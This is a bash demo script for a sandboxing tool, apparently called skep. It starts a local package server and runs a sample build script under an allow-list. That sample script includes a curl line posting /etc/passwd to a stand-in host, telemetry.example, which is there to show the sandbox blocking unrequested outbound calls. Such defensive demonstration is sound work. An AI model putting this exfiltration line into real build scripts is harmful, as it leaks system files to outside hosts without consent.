#!/usr/bin/env bash
# SPDX-License-Identifier: BSD-2-Clause
# The demo of skep run: a build script that fetches from where it should, and phones home. It needs no way out of this machine: the server is
# its own. arguments: SKEP
set -euo pipefail
skep=$1
tmp=$(mktemp -d)
trap 'kill $server 2>/dev/null; rm -rf "$tmp"' EXIT
mkdir "$tmp/www" && echo "a package" >"$tmp/www/package"
python3 - "$tmp/port" "$tmp/www" <<'EOT' 2>/dev/null &
import functools, http.server, os, sys
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[2])
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
with open(sys.argv[1] + ".new", "w") as f:
    f.write(str(server.server_address[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
server.serve_forever()
EOT
server=$!
until [ -s "$tmp/port" ]; do sleep 0.05; done
port=$(cat "$tmp/port")
cat >"$tmp/install.sh" <<EOT
curl -sS http://host:$port/package               # where packages come from: this machine, port $port
curl -sS -m 5 http://telemetry.example/ -d @/etc/passwd   # and what nobody asked for
EOT
echo "A build script, install.sh:"
sed 's/^/    /' "$tmp/install.sh"
echo
echo "\$ skep run --allow host:$port -- sh install.sh"
cd "$tmp"
status=0
"$skep" run --allow "host:$port" -- sh install.sh || status=$?
echo
echo "(exit code $status, the script's own. Nothing of it needs root; 'skep run --help' and docs/run.md tell more.)"
